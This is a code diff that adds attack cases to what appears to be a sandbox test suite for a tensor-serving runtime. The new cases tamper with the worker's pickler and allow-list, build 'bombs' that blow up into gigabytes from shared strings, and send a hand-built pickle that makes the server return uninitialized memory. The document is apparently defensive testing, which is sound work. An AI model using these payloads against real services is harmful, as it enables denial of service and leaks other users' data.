@@ -11,17 +11,20 @@ from __future__ import annotations
 import ctypes
 import errno
 import fcntl
+import io
 import mmap
 import os
 import resource
+import socket
 import termios
 import threading
 from collections.abc import Callable
 from typing import Any, Protocol
 
+import numpy as np
 from pydantic import Field
 
-from tensorline.client import Json
+from tensorline.client import Json, Tagged
 from tensorline.server.nodes import NodeParams
 
 
@@ -416,13 +419,65 @@ def json_bomb_raw(node: Attacker) -> Any:
     """``json_bomb``, after taking the worker's own JSON encoding out of its pickler (node code
     may rewrite anything in its process), so that the server gets the shared objects as they
     are and would have to expand them itself."""
+
+    _unleash_the_pickler()
+    return json_bomb(node)
+
+
+def _unleash_the_pickler() -> None:
+    """Make this worker's picklers send shared objects as shared (memo on, not fast mode) and
+    ``Json`` as the object itself (its class allowed, its text encoding gone), as a node may:
+    whatever the server gets then is the sandbox's problem, not the worker's own code's."""
+    import gc
+
     from tensorline.server.runtime.sandbox import _shm
 
     # The table the worker's picklers hold (changed in place), and the allow-list its own
     # pickler checks the classes it names against.
     _shm._Pickler.dispatch_table.pop(Json, None)
     _shm.SafeUnpickler.ALLOWED = _shm.SafeUnpickler.ALLOWED | {(Json.__module__, "Json")}
-    return json_bomb(node)
+    for found in gc.get_objects():
+        if isinstance(found, _shm.WorkerPickler):
+            found.fast = False
+    def dumps(value: Any, header: bytes = b"", pickler: Any = _shm._Pickler) -> bytes:
+        buffer = io.BytesIO()
+        buffer.write(header)
+        pickler(buffer, protocol=5).dump(value)
+        return buffer.getvalue()
+
+    _shm._dumps = dumps
+
+
+def metadata_bomb_raw(node: Attacker) -> Any:
+    """``metadata_bomb`` with the worker's pickler sending the one string once."""
+    _unleash_the_pickler()
+    return metadata_bomb(node)
+
+
+def uninitialized_array(node: Attacker) -> Any:
+    """Reply, on the control socket, with an output the server's unpickler would build as
+    ``numpy.ndarray((65536,))``: memory the server never wrote, with whatever it held
+    before (other calls' data), sent back to the caller."""
+    from tensorline.server.runtime.sandbox import _shm
+
+    body = (b"\x80\x02X\x02\x00\x00\x00ok}X\x03\x00\x00\x00out"
+            b"cnumpy\nndarray\nJ\x00\x00\x01\x00\x85\x85\x81s"
+            b"G\x00\x00\x00\x00\x00\x00\x00\x00\x87.")
+    socket.socket(fileno=os.dup(3)).send(_shm._HEADER.pack(_shm.FLAG_DIRECT, 0, 0, 0) + body)
+    return "sent"
+
+
+def metadata_bomb(node: Attacker) -> Any:
+    """A tensor tagged with ``count`` thousand metadata entries that all share one 1 MB string:
+    a small message, gigabytes once the entries are written out one by one."""
+    shared = "x" * 1_000_000
+    return Tagged(np.zeros(1), {f"k{i}": shared for i in range(node.params.count * 1000)})
+
+
+def port_bomb(node: Attacker) -> Any:
+    """``count`` thousand outputs that all share one 1 MB string (the node declares one)."""
+    shared = "x" * 1_000_000
+    return {"out": "ok", **{f"p{i}": shared for i in range(node.params.count * 1000)}}
 
 
 def fork(node: Attacker) -> Any:
@@ -438,5 +493,5 @@ ATTACKS: dict[str, Callable[[Attacker], Any]] = {
         mmap_shared, memfds, sysv_shm, sysv_semaphores, private_memory, dev_shm, fill_scratch,
         fill_scratch_small_files, threads, small_stack_threads, leak_fds, leak_fds_blinded,
         realtime, slow_down_others, sigio_signal, outlive_the_launcher, json_bomb,
-        json_bomb_raw, fork)
+        json_bomb_raw, metadata_bomb, metadata_bomb_raw, port_bomb, uninitialized_array, fork)
 }
